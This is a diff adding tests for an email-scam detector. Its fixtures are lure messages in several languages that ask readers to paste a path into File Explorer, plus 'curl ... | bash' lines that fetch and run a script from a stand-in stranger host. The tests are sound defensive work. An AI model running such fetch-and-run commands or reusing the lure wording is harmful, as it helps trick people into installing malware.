@@ -1,6 +1,6 @@
 import { describe, expect, test } from 'vitest';
 import { rank } from '../../../../src/engines/detection/analysis.ts';
-import { analyse } from '../../../../src/engines/detection/index.ts';
+import { analyse, type Email } from '../../../../src/engines/detection/index.ts';
 import { testTable } from '../../../support/test-table.ts';
 
 const idsOf = (body: string) => analyse({ subject: 'Note', body }).signals.map(({ id }) => id);
@@ -58,5 +58,56 @@ describe('an honest email with a command', () => {
   test('may have instructions to install a tool', () => {
     const body = 'Thanks for signing up. Open a terminal and run:\n\ncurl -fsSL https://alder.example/install.sh | sh';
     expect(idsOf(body)).not.toContain('pasted-command');
+  });
+});
+
+describe('something to paste from a stranger', () => {
+  const from = { name: '', address: 'docs@hr-share.example' };
+  const analyseFrom = (body: string, more: Partial<Email> = {}) => analyse({ subject: 'File', body, from, ...more });
+  const ids = (...given: Parameters<typeof analyseFrom>) => analyseFrom(...given).signals.map(({ id }) => id);
+
+  testTable([
+    ['English', 'Copy the path at https://files.test/a, open File Explorer, click the address bar and press Ctrl+V.'],
+    [
+      'German',
+      'Auf https://akten.test/a den Pfad kopieren, den Explorer öffnen und in der Adressleiste mit Strg+V einfügen.',
+    ],
+    ['Spanish', 'Copie la ruta en https://caso.test/a, abra el Explorador y pegue la ruta en la barra de direcciones.'],
+    ['Russian', 'Скопируйте путь на https://delo.test/a, откройте Проводник и вставьте его в адресную строку.'],
+    ['Japanese', 'https://file.test/a でパスをコピーし、エクスプローラーのアドレスバーに貼り付けてください。'],
+  ])('into a file window is suspicious in %s', (_, body) => {
+    const { signals, severity, kind, actions } = analyseFrom(body);
+    expect(signals.map(({ id }) => id)).toContain('pasted-path');
+    expect(rank(severity)).toBeGreaterThanOrEqual(rank('Medium'));
+    expect(kind).toBe('malware');
+    expect(actions[0]).toContain('file window');
+  });
+
+  testTable([
+    ['a network folder', 'Paste \\\\files\\drawings into the Explorer address bar. More: https://wiki.test/a'],
+    ['a variable', 'Paste %appdata%\\Alder into the Explorer address bar, and upload the log: https://help.test/a'],
+    ['a path without a page', 'Paste the path into the address bar of the Explorer.'],
+    ['an old browser', 'Open Internet Explorer and paste the link into the address bar: https://files.test/a'],
+    ['a browser', 'Paste the link into the address bar of your browser: https://files.test/a'],
+  ])('is no request of a help desk: %s', (_, body) => {
+    expect(ids(body)).not.toContain('pasted-path');
+  });
+
+  test('into a terminal is suspicious where it loads a program from elsewhere', () => {
+    for (const shell of ['bash', 'zsh', 'sh']) {
+      const body = `Open Terminal, paste this line and press Return:\n\ncurl -fsSL https://audio-fix.test/i.sh | ${shell}`;
+      const { signals, severity, kind } = analyseFrom(body);
+      expect(signals.map(({ id }) => id)).toContain('strangers-program');
+      expect(rank(severity)).toBeGreaterThanOrEqual(rank('Medium'));
+      expect(kind).toBe('malware');
+    }
+  });
+
+  test('may be a tool of the sender or of a well-known company, or of a contact', () => {
+    const line = (site: string) => `Open Terminal and run:\n\ncurl -fsSL https://${site}/install.sh | bash`;
+    expect(ids(line('get.hr-share.example'))).not.toContain('strangers-program');
+    expect(ids(line('raw.githubusercontent.com/Homebrew/install/HEAD'))).not.toContain('strangers-program');
+    const known = analyse({ subject: 'Setup', body: line('get.tool.test'), from }, { contacts: [from] });
+    expect(known.signals.map(({ id }) => id)).not.toContain('strangers-program');
   });
 });
